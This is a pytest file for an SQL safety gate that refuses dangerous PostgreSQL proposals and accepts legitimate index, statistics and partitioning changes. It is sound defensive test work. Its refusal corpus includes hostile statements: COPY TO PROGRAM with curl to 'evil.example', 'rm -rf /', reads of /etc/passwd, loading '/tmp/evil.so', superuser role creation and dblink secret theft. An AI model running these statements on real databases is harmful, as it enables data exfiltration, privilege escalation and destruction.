"""The SQL safety gate: a corpus of dangerous statements (all refused) and legitimate ones.

The structural checks are pure; the names only a catalog can judge (functions, operators,
casts, relations, what a proposal creates, the columns a copy names) are judged against a
real fork of the demo database holding a hostile catalog (`tests/data/hostile_catalog.sql`).
"""

from __future__ import annotations

import functools
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pglast
import psycopg
import pytest
import trio

from afs.catalog import CATALOG_SQL, catalog_params, facts_from_rows, resolve_sync
from afs.db import connect_sync
from afs.errors import InputError, UnsafeSqlError
from afs.forks.provider import ForkInfo, LocalForkProvider
from afs.models import (
    EstimatedImpact,
    OptimizationProposal,
    RiskLevel,
    UnsafeStatement,
    ValidationResult,
)
from afs.safety import (
    References,
    bind_parameters,
    check_query,
    check_settings,
    denied_function,
    judge_references,
    judge_resolved,
    parameter_count,
    proposal_references,
    query_references,
    split_statements,
    validate_candidate,
    validate_proposal,
)
from afs.sandbox.server import SandboxServer


# -- dangerous proposals -----------------------------------------------------------------------
@dataclass(frozen=True)
class Bad:
    id: str
    commands: tuple[str, ...]
    reason: str  # a fragment of the refusal reason of `culprit`
    proposal_type: str = "index"
    culprit: int = -1  # index of the refused command (default: the last one)


PARTITION_PREFIX = (
    "CREATE TABLE orders_p (LIKE orders INCLUDING ALL) PARTITION BY RANGE (created_at)",
    "CREATE TABLE orders_p_2024 PARTITION OF orders_p FOR VALUES FROM ('2024-01-01') TO ('2025-01-01')",
    "INSERT INTO orders_p SELECT * FROM orders",
)

DANGEROUS: list[Bad] = [
    # smuggled and hidden statements
    Bad("smuggled-drop", ("CREATE INDEX i ON t (a); DROP TABLE t",), "several statements in one command"),
    Bad("smuggled-after-comment", ("CREATE INDEX i ON t (a) -- harmless\n; DROP TABLE t",),
        "several statements in one command"),
    Bad("smuggled-in-block-comment-end", ("CREATE INDEX i ON t (a) /* x */; /* y */ DELETE FROM t",),
        "several statements in one command"),
    Bad("comment-before-drop", ("/* just an index */ DROP TABLE t",), "partitioning"),
    Bad("comment-only", ("-- DROP TABLE t",), "empty command"),
    Bad("empty-command", ("",), "empty command"),
    Bad("whitespace-command", ("   \n\t ",), "empty command"),
    Bad("empty-proposal", (), "no commands"),
    Bad("garbage", ("this is not sql",), "does not parse"),
    Bad("typo", ("CREAT INDEX i ON t (a)",), "does not parse"),
    Bad("psql-meta", ("\\! rm -rf /",), "does not parse"),
    Bad("truncated-index", ("CREATE INDEX i ON",), "does not parse"),
    # code, files, configuration, privileges
    Bad("do-block", ("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",), "DO blocks"),
    Bad("copy-to-program", ("COPY t TO PROGRAM 'curl -d @- evil.example'",), "COPY"),
    Bad("copy-from-file", ("COPY t FROM '/etc/passwd'",), "COPY"),
    Bad("copy-query-stdout", ("COPY (SELECT * FROM t) TO STDOUT",), "COPY"),
    Bad("alter-system", ("ALTER SYSTEM SET shared_buffers = '8GB'",), "ALTER SYSTEM"),
    Bad("set-role", ("SET ROLE postgres",), "ROLE"),
    Bad("set-local-role", ("SET LOCAL ROLE postgres",), "ROLE"),
    Bad("reset-role", ("RESET ROLE",), "ROLE"),
    Bad("set-session-authorization", ("SET SESSION AUTHORIZATION postgres",), "SESSION AUTHORIZATION"),
    Bad("set-guc", ("SET work_mem = '1GB'",), "SET changes session settings"),
    Bad("grant", ("GRANT ALL ON t TO PUBLIC",), "GRANT/REVOKE"),
    Bad("revoke", ("REVOKE SELECT ON t FROM app",), "GRANT/REVOKE"),
    Bad("grant-role", ("GRANT pg_read_server_files TO app",), "GRANT/REVOKE"),
    Bad("create-role", ("CREATE ROLE evil SUPERUSER LOGIN",), "roles"),
    Bad("create-user", ("CREATE USER evil PASSWORD 'x'",), "roles"),
    Bad("alter-user", ("ALTER USER app WITH SUPERUSER",), "roles"),
    Bad("drop-role", ("DROP ROLE app",), "roles"),
    Bad("create-function", ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",), "FUNCTION"),
    Bad("create-procedure", ("CREATE PROCEDURE p() LANGUAGE sql AS 'DELETE FROM t'",), "PROCEDURE"),
    Bad("create-trigger", ("CREATE TRIGGER trg BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",),
        "TRIGGER"),
    Bad("create-rule", ("CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING",), "RULE"),
    Bad("create-extension", ("CREATE EXTENSION dblink",), "EXTENSION"),
    Bad("create-untrusted-extension", ("CREATE EXTENSION IF NOT EXISTS plpython3u",),
        "not in the allow-list"),
    Bad("trgm-without-if-not-exists", ("CREATE EXTENSION pg_trgm",), "IF NOT EXISTS"),
    Bad("trgm-in-a-schema", ("CREATE EXTENSION IF NOT EXISTS pg_trgm SCHEMA evil",), "SCHEMA"),
    Bad("trgm-version", ("CREATE EXTENSION IF NOT EXISTS pg_trgm VERSION '1.0'",), "VERSION"),
    Bad("trgm-cascade", ("CREATE EXTENSION IF NOT EXISTS pg_trgm CASCADE",), "CASCADE"),
    Bad("alter-extension", ("ALTER EXTENSION pg_trgm UPDATE",), "extensions"),
    Bad("drop-extension", ("DROP EXTENSION pg_trgm",), "DROP EXTENSION"),
    Bad("call", ("CALL p()",), "CALL"),
    Bad("drop-database", ("DROP DATABASE prod",), "DROP DATABASE"),
    Bad("drop-schema", ("DROP SCHEMA public CASCADE",), "DROP SCHEMA"),
    Bad("create-database", ("CREATE DATABASE copy TEMPLATE prod",), "CREATE DATABASE"),
    Bad("vacuum-full", ("VACUUM FULL t",), "VACUUM"),
    Bad("vacuum", ("VACUUM t",), "VACUUM"),
    Bad("vacuum-analyze", ("VACUUM ANALYZE t",), "VACUUM"),
    Bad("cluster", ("CLUSTER t USING t_pkey",), "CLUSTER"),
    Bad("reindex", ("REINDEX TABLE t",), "REINDEX"),
    Bad("lock", ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE",), "LOCK"),
    Bad("listen", ("LISTEN ch",), "LISTEN/NOTIFY"),
    Bad("notify", ("NOTIFY ch, 'x'",), "LISTEN/NOTIFY"),
    Bad("prepare", ("PREPARE p AS DELETE FROM t",), "PREPARE/EXECUTE"),
    Bad("execute", ("EXECUTE p",), "PREPARE/EXECUTE"),
    Bad("discard", ("DISCARD ALL",), "DISCARD"),
    Bad("load", ("LOAD '/tmp/evil.so'",), "LOAD"),
    Bad("security-label", ("SECURITY LABEL FOR selinux ON TABLE t IS 'x'",), "SECURITY LABEL"),
    Bad("comment-on", ("COMMENT ON TABLE t IS 'x'",), "COMMENT ON"),
    Bad("checkpoint", ("CHECKPOINT",), "CHECKPOINT"),
    Bad("begin", ("BEGIN",), "transaction control"),
    Bad("commit", ("COMMIT",), "transaction control"),
    Bad("rollback", ("ROLLBACK",), "transaction control"),
    Bad("savepoint", ("SAVEPOINT s",), "transaction control"),
    Bad("explain", ("EXPLAIN ANALYZE DELETE FROM t",), "EXPLAIN"),
    Bad("create-server", ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",), "foreign"),
    Bad("alter-owner", ("ALTER TABLE t OWNER TO evil",), "partitioning"),
    # data
    Bad("truncate", ("TRUNCATE t",), "TRUNCATE"),
    Bad("delete", ("DELETE FROM t",), "DELETE"),
    Bad("update", ("UPDATE t SET a = 1",), "UPDATE"),
    Bad("merge", ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",), "MERGE"),
    Bad("ctas", ("CREATE TABLE t2 AS SELECT * FROM t",), "CREATE TABLE AS"),
    Bad("ctas-in-partitioning", ("CREATE TABLE t2 AS SELECT * FROM t",), "CREATE TABLE AS", "partitioning"),
    Bad("select-into", ("SELECT * INTO t2 FROM t",), "SELECT INTO"),
    Bad("plain-select", ("SELECT * FROM t",), "not a schema change"),
    Bad("select-side-effect", ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity",),
        "pg_terminate_backend"),
    # side effects hidden in allowed statement types
    Bad("terminate-in-index-expression", ("CREATE INDEX i ON t ((pg_terminate_backend(a)))",),
        "calls pg_terminate_backend()"),
    Bad("qualified-terminate-in-index", ("CREATE INDEX i ON t ((pg_catalog.pg_terminate_backend(a)))",),
        "pg_terminate_backend"),
    Bad("sleep-in-partial-index", ("CREATE INDEX i ON t (a) WHERE pg_sleep(1) IS NULL",), "pg_sleep"),
    Bad("dblink-exec-in-index", ("CREATE INDEX i ON t (a) WHERE dblink_exec('x', 'DROP TABLE t') = 'x'",),
        "dblink_exec"),
    Bad("dblink-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM dblink('host=evil', "
                         "'SELECT secret FROM vault') AS r(secret text)",), "dblink"),
    Bad("nextval-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT nextval('s') AS n",), "nextval"),
    Bad("lo-import-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT lo_import('/etc/passwd')",), "lo_import"),
    Bad("read-file-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT pg_read_file('/etc/passwd')",),
        "pg_read_file"),
    Bad("set-config-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT set_config('role', 'postgres', false)",),
        "set_config"),
    Bad("advisory-lock-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT pg_advisory_lock(1)",), "advisory"),
    Bad("query-to-xml-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT query_to_xml('DELETE FROM t', "
                               "true, true, '')",), "query_to_xml"),
    Bad("deep-subquery-side-effect", ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM t WHERE a IN "
                                      "(SELECT pg_cancel_backend(pid) FROM pg_stat_activity)",),
        "pg_cancel_backend"),
    Bad("modifying-cte-in-mv", ("CREATE MATERIALIZED VIEW mv AS WITH d AS (DELETE FROM t RETURNING *) "
                                "SELECT * FROM d",), "data-modifying"),
    Bad("for-update-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM t FOR UPDATE",), "FOR UPDATE"),
    # index and view details outside the allow-list
    Bad("index-on-catalog", ("CREATE INDEX i ON pg_catalog.pg_class (relname)",), "system schema"),
    Bad("index-unknown-am", ("CREATE INDEX i ON t USING bloom (a)",), "access method bloom"),
    Bad("index-tablespace", ("CREATE INDEX i ON t (a) TABLESPACE fast",), "TABLESPACE"),
    Bad("plain-view", ("CREATE VIEW v AS SELECT * FROM t",), "materialized view"),
    Bad("drop-index", ("DROP INDEX i",), "DROP INDEX"),
    Bad("drop-mv", ("DROP MATERIALIZED VIEW mv",), "DROP MATERIALIZED VIEW"),
    Bad("create-sequence", ("CREATE SEQUENCE s",), "CREATE SEQUENCE"),
    # partitioning steps outside a partitioning proposal
    Bad("create-partitioned-outside", ("CREATE TABLE p (LIKE t) PARTITION BY RANGE (a)",), "partitioning"),
    Bad("partition-of-outside", ("CREATE TABLE p1 PARTITION OF p FOR VALUES FROM (1) TO (2)",),
        "partitioning", "materialized_view"),
    Bad("insert-select-outside", ("INSERT INTO p SELECT * FROM t",), "partitioning"),
    Bad("rename-outside", ("ALTER TABLE t RENAME TO t_old",), "partitioning", "materialized_view"),
    Bad("attach-outside", ("ALTER TABLE p ATTACH PARTITION p1 FOR VALUES FROM (1) TO (2)",), "partitioning"),
    Bad("drop-table-outside", ("DROP TABLE t",), "partitioning", "composite_index"),
    # partitioning proposals that go too far
    Bad("drop-cascade-in-partitioning", (*PARTITION_PREFIX, "DROP TABLE orders CASCADE"), "CASCADE",
        "partitioning"),
    Bad("drop-unrelated-in-partitioning", (*PARTITION_PREFIX, "DROP TABLE customers"),
        "table being replaced", "partitioning"),
    Bad("drop-before-copy", ("CREATE TABLE orders_p (LIKE orders) PARTITION BY RANGE (created_at)",
                             "DROP TABLE orders"), "table being replaced", "partitioning"),
    Bad("drop-two-tables", (*PARTITION_PREFIX, "DROP TABLE orders, customers"), "several tables",
        "partitioning"),
    Bad("insert-values", (*PARTITION_PREFIX[:2], "INSERT INTO orders_p VALUES (1, now())"),
        "INSERT INTO <table> SELECT", "partitioning"),
    Bad("insert-into-existing", (*PARTITION_PREFIX[:2], "INSERT INTO customers SELECT * FROM orders"),
        "created earlier", "partitioning"),
    Bad("insert-on-conflict", (*PARTITION_PREFIX[:2],
                               "INSERT INTO orders_p SELECT * FROM orders ON CONFLICT DO NOTHING"),
        "ON CONFLICT", "partitioning"),
    Bad("insert-with-cte", (*PARTITION_PREFIX[:2], "WITH d AS (DELETE FROM orders RETURNING *) "
                            "INSERT INTO orders_p SELECT * FROM d"), "WITH", "partitioning"),
    Bad("insert-returning", (*PARTITION_PREFIX[:2], "INSERT INTO orders_p SELECT * FROM orders RETURNING id"),
        "RETURNING", "partitioning"),
    Bad("alter-drop-column", ("ALTER TABLE orders DROP COLUMN note",), "ATTACH PARTITION", "partitioning"),
    Bad("alter-add-column", ("ALTER TABLE orders ADD COLUMN x int",), "ATTACH PARTITION", "partitioning"),
    Bad("detach-partition", ("ALTER TABLE orders DETACH PARTITION orders_2024",), "ATTACH PARTITION",
        "partitioning"),
    Bad("rename-column", ("ALTER TABLE orders RENAME COLUMN note TO memo",), "RENAME TO", "partitioning"),
    Bad("rename-index", ("ALTER INDEX i RENAME TO j",), "RENAME TO", "partitioning"),
    Bad("plain-create-table", ("CREATE TABLE x (a int)",), "PARTITION BY", "partitioning"),
    Bad("unlogged-table", ("CREATE UNLOGGED TABLE x (LIKE orders)",), "UNLOGGED", "partitioning"),
    Bad("temp-table", ("CREATE TEMP TABLE x (LIKE orders)",), "TEMPORARY", "partitioning"),
    Bad("inherits", ("CREATE TABLE x (LIKE orders) INHERITS (orders)",), "INHERITS", "partitioning"),
    Bad("nextval-default-in-partitioning",
        ("CREATE TABLE x (id bigint DEFAULT nextval('s'), d date) PARTITION BY RANGE (d)",), "nextval",
        "partitioning"),
    Bad("one-bad-among-good", ("CREATE INDEX i ON t (a)", "DROP TABLE t", "ANALYZE t"), "partitioning",
        culprit=1),
    # partitioning recipes that reach existing data by a detour
    Bad("create-table-if-not-exists",
        ("CREATE TABLE IF NOT EXISTS customers (LIKE orders)", "DROP TABLE customers"),
        "IF NOT EXISTS", "partitioning", culprit=0),
    Bad("drop-after-partial-copy",
        ("CREATE TABLE n (LIKE orders)", "INSERT INTO n SELECT * FROM orders WHERE false",
         "DROP TABLE orders"),
        "table being replaced", "partitioning"),
    Bad("drop-after-limit-0-copy",
        ("CREATE TABLE n (LIKE orders)", "INSERT INTO n SELECT * FROM orders LIMIT 0", "DROP TABLE orders"),
        "table being replaced", "partitioning"),
    Bad("drop-after-aggregate-copy",
        ("CREATE TABLE n (c bigint) PARTITION BY RANGE (c)", "INSERT INTO n SELECT count(*) FROM orders",
         "DROP TABLE orders"),
        "table being replaced", "partitioning"),
    Bad("drop-after-copy-of-only-the-parent",
        ("CREATE TABLE n (LIKE orders)", "INSERT INTO n SELECT * FROM ONLY orders", "DROP TABLE orders"),
        "table being replaced", "partitioning"),
    Bad("drop-second-source-of-a-join-copy",
        ("CREATE TABLE n (LIKE orders)", "INSERT INTO n SELECT orders.* FROM orders, customers",
         "DROP TABLE customers"),
        "table being replaced", "partitioning"),
    Bad("drop-after-copy-was-dropped",
        ("CREATE TABLE n (LIKE orders)", "INSERT INTO n SELECT * FROM orders", "DROP TABLE n",
         "DROP TABLE orders"),
        "table being replaced", "partitioning"),
    Bad("drop-after-copy-lost-with-its-parent",
        (*PARTITION_PREFIX[:2], "INSERT INTO orders_p_2024 SELECT * FROM orders", "DROP TABLE orders_p",
         "DROP TABLE orders"),
        "table being replaced", "partitioning"),
    # recipes that lose data without dropping what they copied (issue 9, item 4)
    Bad("filtered-copy-renamed-into-place",
        ("CREATE TABLE n (LIKE orders) PARTITION BY RANGE (created_at)",
         "CREATE TABLE n_all PARTITION OF n DEFAULT",
         "INSERT INTO n SELECT * FROM orders WHERE status = 'paid'",
         "ALTER TABLE orders RENAME TO orders_old", "ALTER TABLE n RENAME TO orders"),
        "does not hold all of its rows", "partitioning"),
    Bad("drop-the-only-copy-after-replacing",
        ("CREATE TABLE n (LIKE orders)", "INSERT INTO n SELECT * FROM orders",
         "ALTER TABLE orders RENAME TO orders_old", "ALTER TABLE n RENAME TO orders", "DROP TABLE orders_old",
         "DROP TABLE orders"),
        "only copy of the rows of orders", "partitioning"),
    Bad("drop-the-copy-after-the-original",
        ("CREATE TABLE n (LIKE orders)", "INSERT INTO n SELECT * FROM orders", "DROP TABLE orders",
         "DROP TABLE n"),
        "only copy of the rows of orders", "partitioning"),
    Bad("temporary-table-by-schema", ("CREATE TABLE pg_temp.orders (LIKE public.orders)",), "pg_temp",
        "partitioning"),
    Bad("temporary-table-mixed-case-schema", ('CREATE TABLE "PG_TEMP".orders (LIKE public.orders)',),
        "system schema", "partitioning"),
    Bad("index-on-a-temporary-table", ("CREATE INDEX i ON pg_temp_3.orders (id)",), "system schema"),
    Bad("new-table-under-a-freed-name-without-rows",
        ("ALTER TABLE orders RENAME TO orders_old",
         "CREATE TABLE orders (LIKE orders_old) PARTITION BY RANGE (created_at)",
         "CREATE TABLE orders_all PARTITION OF orders DEFAULT"),
        "does not hold all of its rows", "partitioning", culprit=1),
    Bad("star-into-a-column-list-then-drop",
        ("CREATE TABLE n (LIKE orders)", "INSERT INTO n (id) SELECT * FROM orders", "DROP TABLE orders"),
        "table being replaced", "partitioning"),
    Bad("swapped-columns-then-drop",
        ("CREATE TABLE n (LIKE orders)", "INSERT INTO n (id, status) SELECT status, id FROM orders",
         "DROP TABLE orders"),
        "table being replaced", "partitioning"),
    Bad("catalog-read-in-mv", ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM pg_catalog.pg_authid",),
        "system schema", "materialized_view"),
    Bad("information-schema-in-rewrite-like-mv",
        ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM Information_Schema.tables",), "system schema",
        "materialized_view"),
    Bad("function-in-pg-temp", ("CREATE INDEX i ON t ((pg_temp.f(a)))",), "not a built-in function"),
    Bad("drop-parent-of-attached-existing-table",
        ("CREATE TABLE p (LIKE customers) PARTITION BY HASH (id)",
         "ALTER TABLE p ATTACH PARTITION customers FOR VALUES WITH (MODULUS 1, REMAINDER 0)", "DROP TABLE p"),
        "would also drop the existing table customers", "partitioning"),
    Bad("insert-through-attached-existing-table",
        ("CREATE TABLE p (LIKE customers) PARTITION BY HASH (id)",
         "ALTER TABLE p ATTACH PARTITION customers FOR VALUES WITH (MODULUS 1, REMAINDER 0)",
         "INSERT INTO p SELECT * FROM customers"),
        "existing table customers", "partitioning"),
    Bad("insert-into-new-partition-of-existing-table",
        ("CREATE TABLE orders_2030 PARTITION OF orders FOR VALUES FROM ('2030-01-01') TO ('2031-01-01')",
         "INSERT INTO orders_2030 SELECT * FROM orders_archive"),
        "existing table orders", "partitioning"),
    Bad("attach-to-existing-table",
        ("CREATE TABLE n (LIKE orders)", "INSERT INTO n SELECT * FROM orders",
         "ALTER TABLE orders ATTACH PARTITION n DEFAULT"),
        "ATTACH PARTITION only to a table created", "partitioning"),
    # functions that run SQL given as text, or empty the caches the benchmark measures
    Bad("ts-rewrite-runs-sql-in-mv",
        ("CREATE MATERIALIZED VIEW mv AS SELECT ts_rewrite('a'::tsquery, "
         "'SELECT pg_sleep(60)::text::tsquery, ''b''::tsquery')",),
        "ts_rewrite", "materialized_view"),
    Bad("crosstab-runs-sql-in-mv",
        ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM crosstab("
         "'SELECT pg_terminate_backend(pid), 1, 1 FROM pg_stat_activity') AS t(a bool, b int)",),
        "crosstab", "materialized_view"),
    Bad("buffercache-evict-in-partial-index", ("CREATE INDEX i ON t (a) WHERE pg_buffercache_evict(1)",),
        "pg_buffercache_evict"),
    Bad("qualified-stats-reset-in-index",
        ("CREATE INDEX i ON t ((public.pg_stat_statements_reset() IS NULL))",), "pg_stat_statements_reset"),
    Bad("restore-stats-in-mv",
        ("CREATE MATERIALIZED VIEW mv AS SELECT pg_catalog.pg_restore_relation_stats("
         "'relation', 't'::regclass, 'reltuples', 1e9::real)",),
        "pg_restore_relation_stats", "materialized_view"),
    Bad("mv-other-access-method", ("CREATE MATERIALIZED VIEW mv USING columnar AS SELECT 1",),
        "access method columnar", "materialized_view"),
    Bad("unicode-escaped-sleep-in-index", ('CREATE INDEX i ON t ((U&"pg\\005fsleep"(1)))',), "pg_sleep"),
    Bad("set-config-after-dollar-quote",
        ("CREATE INDEX i ON t (a) WHERE $q$;$q$ = pg_catalog.set_config('role', 'postgres', false)",),
        "set_config"),
    Bad("refresh-with-no-data", ("REFRESH MATERIALIZED VIEW mv WITH NO DATA",), "WITH NO DATA",
        "materialized_view"),
    Bad("nul-hides-the-rest", ("CREATE INDEX i ON t (a)\x00; DROP TABLE t",), "NUL character"),
    Bad("nextval-in-partition-bound",
        ("CREATE TABLE p (LIKE orders) PARTITION BY RANGE (id)",
         "CREATE TABLE p1 PARTITION OF p FOR VALUES FROM (nextval('s')) TO (MAXVALUE)"),
        "nextval", "partitioning"),
    # extended statistics: one named object on one table, the three kinds, simple expressions
    Bad("statistics-without-name", ("CREATE STATISTICS ON a, b FROM t",), "needs a name", "statistics"),
    Bad("statistics-target-too-high", ("ALTER TABLE t ALTER COLUMN a SET STATISTICS 20000",),
        "from 1 to 10000", "statistics"),
    Bad("statistics-target-default", ("ALTER TABLE t ALTER COLUMN a SET STATISTICS DEFAULT",),
        "from 1 to 10000", "statistics"),
    Bad("statistics-target-by-number", ("ALTER TABLE t ALTER COLUMN 1 SET STATISTICS 100",),
        "names its column", "statistics"),
    Bad("statistics-target-of-an-index", ("ALTER INDEX i ALTER COLUMN 1 SET STATISTICS 100",),
        "only on a table", "statistics"),
    Bad("statistics-target-and-more", ("ALTER TABLE t ALTER COLUMN a SET STATISTICS 100, ADD COLUMN b int",),
        "partitioning", "statistics"),
    Bad("statistics-target-on-a-catalog",
        ("ALTER TABLE pg_catalog.pg_class ALTER COLUMN relname SET STATISTICS 100",), "system", "statistics"),
    Bad("statistics-on-two-tables", ("CREATE STATISTICS s ON a, b FROM t, u",), "exactly one table",
        "statistics"),
    Bad("statistics-unknown-kind", ("CREATE STATISTICS s (correlation) ON a, b FROM t",),
        "kind correlation", "statistics"),
    Bad("statistics-subquery", ("CREATE STATISTICS s ON ((SELECT max(a) FROM u)), b FROM t",),
        "not a simple expression", "statistics"),
    Bad("statistics-side-effect", ("CREATE STATISTICS s ON (pg_sleep(a)), b FROM t",), "pg_sleep",
        "statistics"),
    Bad("statistics-window", ("CREATE STATISTICS s ON (row_number() OVER ()), b FROM t",),
        "window", "statistics"),
    Bad("statistics-on-a-catalog", ("CREATE STATISTICS s ON relname, relkind FROM pg_catalog.pg_class",),
        "system schema", "statistics"),
    Bad("statistics-in-a-catalog", ("CREATE STATISTICS pg_catalog.s ON a, b FROM t",), "system schema",
        "statistics"),
    Bad("drop-statistics", ("DROP STATISTICS s",), "DROP STATISTICS is not in the allow-list", "statistics"),
    Bad("settings-with-commands", ("CREATE INDEX i ON t (a)",), "no commands", "settings"),
]


@pytest.mark.parametrize("case", DANGEROUS, ids=[c.id for c in DANGEROUS])
def test_dangerous_statements_are_refused(case: Bad) -> None:
    result = validate_proposal(case.commands, case.proposal_type)
    assert not result.is_valid
    assert result.risk_level == "high"
    assert result.reversibility == 0.0
    assert result.rejected
    if case.commands:
        culprit = case.commands[case.culprit]
        reasons = [r.reason for r in result.rejected if r.statement == culprit]
        assert reasons, result.rejected
        assert any(case.reason in r for r in reasons), reasons
    else:
        assert case.reason in result.rejected[0].reason


def test_corpus_sizes() -> None:
    assert len(DANGEROUS) >= 40
    assert len(LEGITIMATE) >= 20
    assert len({c.id for c in DANGEROUS}) == len(DANGEROUS)
    assert len({c.id for c in LEGITIMATE}) == len(LEGITIMATE)


def test_every_refusal_is_reported_and_the_rest_still_judged() -> None:
    result = validate_proposal(["CREATE INDEX i ON t (a)", "DROP TABLE t", "GRANT ALL ON t TO x"], "index")
    assert not result.is_valid
    assert [r.statement for r in result.rejected] == ["DROP TABLE t", "GRANT ALL ON t TO x"]
    assert result.rollback_commands == ("DROP INDEX IF EXISTS i",)


# -- legitimate proposals -------------------------------------------------------------------
@dataclass(frozen=True)
class Good:
    id: str
    commands: tuple[str, ...]
    risk: RiskLevel
    rollback: tuple[str, ...]
    proposal_type: str = "index"
    reversibility: float = 1.0
    warning: str | None = None  # a fragment one of the warnings must contain


NO_CONCURRENTLY = "without CONCURRENTLY"
ORDER_COLUMNS = "id, user_id, status, total_amount, shipping_country, created_at, updated_at"  # the demo's

LEGITIMATE: list[Good] = [
    Good("plain-index", ("CREATE INDEX idx_orders_customer ON orders (customer_id)",), "low",
         ("DROP INDEX IF EXISTS idx_orders_customer",), warning=NO_CONCURRENTLY),
    Good("concurrently", ("CREATE INDEX CONCURRENTLY idx_c ON orders (customer_id)",), "low",
         ("DROP INDEX IF EXISTS idx_c",)),
    Good("if-not-exists", ("CREATE INDEX CONCURRENTLY IF NOT EXISTS idx_c ON orders (customer_id)",), "low",
         ("DROP INDEX IF EXISTS idx_c",), warning="IF NOT EXISTS"),
    Good("partial", ("CREATE INDEX idx_pending ON orders (created_at) WHERE status = 'pending'",), "low",
         ("DROP INDEX IF EXISTS idx_pending",), "partial_index"),
    Good("covering", ("CREATE INDEX idx_cov ON orders (customer_id) INCLUDE (total, status)",), "low",
         ("DROP INDEX IF EXISTS idx_cov",)),
    Good("composite", ("CREATE INDEX idx_comp ON orders (customer_id, created_at DESC NULLS LAST)",), "low",
         ("DROP INDEX IF EXISTS idx_comp",), "composite_index"),
    Good("expression", ("CREATE INDEX idx_email ON users (lower(email))",), "low",
         ("DROP INDEX IF EXISTS idx_email",)),
    Good("explicit-btree", ("CREATE INDEX idx_b ON orders USING btree (status)",), "low",
         ("DROP INDEX IF EXISTS idx_b",)),
    Good("hash", ("CREATE INDEX idx_h ON orders USING hash (token)",), "low",
         ("DROP INDEX IF EXISTS idx_h",)),
    Good("brin", ("CREATE INDEX idx_brin ON events USING brin (created_at) WITH (pages_per_range = 32)",),
         "medium", ("DROP INDEX IF EXISTS idx_brin",)),
    Good("gin", ("CREATE INDEX idx_tags ON posts USING gin (tags)",), "medium",
         ("DROP INDEX IF EXISTS idx_tags",)),
    Good("gist", ("CREATE INDEX idx_span ON bookings USING gist (during)",), "medium",
         ("DROP INDEX IF EXISTS idx_span",)),
    Good("unique", ("CREATE UNIQUE INDEX CONCURRENTLY idx_u ON users (email) NULLS NOT DISTINCT",), "medium",
         ("DROP INDEX IF EXISTS idx_u",), warning="duplicates"),
    Good("schema-qualified", ("CREATE INDEX idx_s ON sales.orders (customer_id)",), "low",
         ("DROP INDEX IF EXISTS sales.idx_s",)),
    Good("quoted-names", ('CREATE INDEX "Idx Mixed" ON "Orders" ("CustomerId")',), "low",
         ('DROP INDEX IF EXISTS "Idx Mixed"',)),
    Good("extended-statistics", ("CREATE STATISTICS afs_orders_status_user_id_stats "
                                 "(dependencies, ndistinct, mcv) ON status, user_id FROM orders",
                                 "ANALYZE orders (status, user_id)"),
         "low", ("DROP STATISTICS IF EXISTS afs_orders_status_user_id_stats",), "statistics",
         warning="ANALYZE"),
    Good("statistics-expressions", ('CREATE STATISTICS IF NOT EXISTS sales."S" ON (lower(email)), '
                                    "(created_at::date), country FROM sales.users",),
         "low", ('DROP STATISTICS IF EXISTS sales."S"',), "statistics", warning="IF NOT EXISTS"),
    Good("statistics-default-kinds", ("CREATE STATISTICS s ON a, b FROM t",), "low",
         ("DROP STATISTICS IF EXISTS s",), "statistics"),
    Good("statistics-target", ('ALTER TABLE sales.items ALTER COLUMN name SET STATISTICS 1500, '
                               'ALTER COLUMN "Sku" SET STATISTICS 500', "ANALYZE sales.items (name)"),
         "low", ('ALTER TABLE IF EXISTS sales.items ALTER COLUMN name SET STATISTICS -1, '
                 'ALTER COLUMN "Sku" SET STATISTICS -1', 'ANALYZE sales.items (name, "Sku")'),
         "statistics", reversibility=0.9, warning="new target"),
    Good("unnamed-index", ("CREATE INDEX ON orders (customer_id)",), "low", (), reversibility=0.5,
         warning="index name missing"),
    Good("comment-and-semicolon", ("/* covering */ CREATE INDEX idx_x ON orders (a); -- done",), "low",
         ("DROP INDEX IF EXISTS idx_x",)),
    Good("harmless-function-in-index", ("CREATE INDEX idx_day ON events (date_trunc('day', created_at))",),
         "low", ("DROP INDEX IF EXISTS idx_day",)),
    Good("analyze", ("ANALYZE orders",), "low", ()),
    Good("trigram-index", ("CREATE EXTENSION IF NOT EXISTS pg_trgm",
                           "CREATE INDEX idx_trgm ON docs USING gin (title gin_trgm_ops)"),
         "medium", ("DROP INDEX IF EXISTS idx_trgm",), warning="needs the pg_trgm extension"),
    Good("btree-gin", ("CREATE EXTENSION IF NOT EXISTS btree_gin",), "low", (),
         warning="leaves it installed"),
    Good("analyze-all", ("ANALYZE",), "low", (), warning="whole database"),
    Good("analyze-verbose-columns", ("ANALYZE (VERBOSE) orders (customer_id, status)",), "low", ()),
    Good("index-then-analyze", ("CREATE INDEX CONCURRENTLY idx_a ON orders (a)", "ANALYZE orders"), "low",
         ("DROP INDEX IF EXISTS idx_a",)),
    Good("two-indexes", ("CREATE INDEX idx_1 ON orders (a)", "CREATE INDEX idx_2 ON orders USING brin (b)"),
         "medium", ("DROP INDEX IF EXISTS idx_2", "DROP INDEX IF EXISTS idx_1")),
    Good("materialized-view",
         ("CREATE MATERIALIZED VIEW daily_totals AS SELECT date_trunc('day', created_at) AS day, "
          "sum(total) AS total FROM orders GROUP BY 1",),
         "medium", ("DROP MATERIALIZED VIEW IF EXISTS daily_totals",), "materialized_view",
         warning="REFRESH"),
    Good("mv-with-index-and-refresh",
         ("CREATE MATERIALIZED VIEW mv AS WITH c AS (SELECT customer_id, count(*) AS n FROM orders "
